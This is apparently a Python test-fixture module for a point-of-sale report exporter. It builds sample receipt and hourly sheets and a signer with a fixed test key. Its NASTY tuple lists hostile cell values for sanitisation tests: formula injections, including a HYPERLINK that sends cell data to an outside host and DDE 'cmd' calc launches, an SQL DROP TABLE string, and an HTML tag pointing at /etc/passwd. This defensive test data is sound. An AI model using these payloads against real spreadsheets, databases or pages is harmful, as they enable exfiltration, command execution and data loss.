"""A report with a bit of everything, small or large, and who signs it."""

from functools import partial
from pathlib import Path

from gatepos import i18n
from gatepos.domain import moments, numbers
from gatepos.reports import export, identities
from gatepos.reports.export import Exported
from gatepos.reports.manifest import Signer
from gatepos.reports.sheet import Bars, Cell, Column, Head, Identity, Kind, Note, Report, Sheet
from gatepos.seal import said
from gatepos.seal.keys import TillKey

KEY = TillKey(b"\x07" * 32)
SIGNER = Signer("NMG2", KEY.public, "2026-01-04T06:11:00.000Z", partial(said.say, KEY))
WORDS = i18n.words(i18n.ENGLISH)
FIRST_MS = moments.from_text("2026-01-02T03:31:02.123Z")
NASTY = (
    '=HYPERLINK("http://x/?"&A1,"pay")',
    "=1+1",
    "+254712345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "−200",
    "'=1+1",
    "'",
    "''quoted",
    'say "no"; then, leave',
    ";=1",
    "Robert'); DROP TABLE receipt;--",
    "%s{0}{name}",
    "first\nsecond\r\nthird",
    "<b>PAID</b><img src=file:///etc/passwd>",
    "Ngũgĩ wa Thiong'o 🦏 שלום e\u0301",
    "x" * 10_000,
    "NULL",
    " ",
)

_COLUMNS = (
    Column("number", "Receipt"),
    Column("at", "At", Kind.MOMENT),
    Column("day", "Day", Kind.DAY),
    Column("operator", "Operator"),
    Column("people", "People", Kind.COUNT, is_summed=True),
    Column("rate_e4", "Rate", Kind.RATE),
    Column("paid_minor", "Paid", Kind.KES, is_summed=True),
    Column("usd_minor", "USD", Kind.USD, is_summed=True),
)


def register(rows: int) -> Sheet:
    """A register of receipts, one of them taken back, one without an operator."""
    return Sheet("receipts", "Receipt register", _COLUMNS, tuple(map(_receipt, range(rows))))


def texts(*cells: str) -> Sheet:
    """A paper of text alone."""
    columns = (Column("n", "No.", Kind.COUNT), Column("text", "Text"))
    return Sheet("texts", "Texts", columns, tuple(enumerate(cells, 1)))


def hours() -> Sheet:
    """A paper with a chart, an outage until 14:00."""
    columns = (
        Column("hour", "Hour"),
        Column("entry_minor", "At entry", Kind.KES, is_summed=True),
        Column("exit_minor", "On exit", Kind.KES, is_summed=True),
        Column("outage", "Outage", Kind.COUNT),
    )
    rows = tuple(
        (f"{hour:02d}:00", hour * 4_720_180, hour * 834_860, int(hour < 14)) for hour in range(6, 19)
    )
    return Sheet("hours", "Collected by hour", columns, rows, (), Bars("hour", columns_of(columns), "outage"))


def columns_of(columns: tuple[Column, ...]) -> tuple[str, ...]:
    """The names of the columns that are summed."""
    return tuple(column.name for column in columns if column.is_summed)


def report(*sheets: Sheet, identities_: tuple[Identity, ...] = ()) -> Report:
    """A report of these papers."""
    return Report(
        "NNP",
        "2026-01-02",
        "2026-01-02",
        "2026-01-04T06:10:00.000Z",
        2,
        (Head("NMG2", 4812, "ab" * 32),),
        (Note("This till {till}, all of its entries.", {"till": "NMG2"}),),
        sheets,
        identities_ or (identities.money(900_00, 100_00, 1000_00, 150_00, 50_00),),
    )


def written(folder: Path, given: Report, *formats: str) -> Exported:
    """The report in a folder."""
    return export.write(given, folder, formats, WORDS, SIGNER, lambda _: None)


def _receipt(place: int) -> tuple[Cell, ...]:
    at_ms = FIRST_MS + place * 41_000
    operator = None if place == 1 else f"Savannah & Sons {place}"
    paid = -20_000 if place == 3 else 1_000_001 + place * 37
    number = numbers.make("NMG2", "R", place % 999_999 + 1)
    day = moments.local_day(at_ms).isoformat()
    return (number, moments.to_text(at_ms), day, operator, place % 8 + 1, 1_295_000, paid, place * 101)
